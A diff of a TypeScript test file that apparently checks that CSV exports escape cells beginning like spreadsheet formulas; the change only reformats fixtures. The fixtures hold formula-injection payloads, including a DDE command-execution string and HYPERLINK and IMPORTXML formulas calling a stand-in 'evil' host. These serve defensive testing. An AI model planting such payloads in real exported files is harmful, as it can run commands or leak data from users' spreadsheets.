@@ -11,13 +11,24 @@ import { syntheticHeader } from './synthetic.js';
 const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\0'];
 
 const run = (rows: Omit<SampleRow, 'type'>[]): RunResults => ({
-  file: 'x.jsonl', header: syntheticHeader({ runId: '=HYPERLINK("http://evil","run")' }), events: [], end: null, warnings: [],
+  file: 'x.jsonl',
+  header: syntheticHeader({ runId: '=HYPERLINK("http://evil","run")' }),
+  events: [],
+  end: null,
+  warnings: [],
   samples: rows.map((r) => ({ type: 'sample', ...r })),
 });
 
 const hostile = {
-  workload: '=cmd|\' /C calc\'!A0', variant: '+SUM(A1:A9)', runtime: '-2+3', mode: '@SUM(1)', phase: '\tTAB', metric: '\rcold_start_ns',
-  request: '\uFF1D1+1', tags: { '=k': '@v' }, error: '=IMPORTXML("http://evil", "//a")',
+  workload: "=cmd|' /C calc'!A0",
+  variant: '+SUM(A1:A9)',
+  runtime: '-2+3',
+  mode: '@SUM(1)',
+  phase: '\tTAB',
+  metric: '\rcold_start_ns',
+  request: '\uFF1D1+1',
+  tags: { '=k': '@v' },
+  error: '=IMPORTXML("http://evil", "//a")',
 };
 
 /** A minimal RFC 4180 reader (quoted fields with "" escapes), enough to check cells. */
@@ -55,7 +66,17 @@ function parseCsv(text: string): string[][] {
 describe('CSV exports', () => {
   const rows: Omit<SampleRow, 'type'>[] = [
     ...[1, 2, 3].map((i) => ({ ...hostile, value: 1000 * i, ok: true, iteration: i })),
-    ...[1, 2, 3].map((i) => ({ workload: 'hello', variant: 'wasm', runtime: 'wasm', mode: 'density', phase: 'total', metric: 'memory_delta_bytes', value: -4096 * i, ok: true, iteration: i })),
+    ...[1, 2, 3].map((i) => ({
+      workload: 'hello',
+      variant: 'wasm',
+      runtime: 'wasm',
+      mode: 'density',
+      phase: 'total',
+      metric: 'memory_delta_bytes',
+      value: -4096 * i,
+      ok: true,
+      iteration: i,
+    })),
   ];
 
   it('samples CSV: every text cell that starts like a formula gets a leading quote; numbers stay numbers', () => {
